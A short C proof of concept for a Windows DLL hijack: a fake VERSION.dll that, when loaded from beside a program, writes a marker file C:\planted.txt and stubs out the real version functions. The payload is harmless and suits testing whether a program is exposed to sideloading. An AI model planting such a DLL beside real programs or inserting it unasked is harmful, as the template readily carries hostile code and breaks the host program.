/* A VERSION.dll as an attacker would plant it beside a program: once
   loaded, it leaves C:\planted.txt; its version functions find nothing. */
#include <windows.h>

BOOL WINAPI DllMain(HINSTANCE module, DWORD reason, LPVOID reserved) {
  if (reason == DLL_PROCESS_ATTACH)
    CloseHandle(CreateFileA("C:\\planted.txt", GENERIC_WRITE, 0, NULL,
                            CREATE_ALWAYS, 0, NULL));
  return TRUE;
}
DWORD WINAPI GetFileVersionInfoSizeA(LPCSTR f, LPDWORD h) { return 0; }
BOOL WINAPI GetFileVersionInfoA(LPCSTR f, DWORD h, DWORD n, LPVOID b) {
  return FALSE;
}
BOOL WINAPI VerQueryValueA(LPCVOID b, LPCSTR s, LPVOID* v, PUINT n) {
  return FALSE;
}
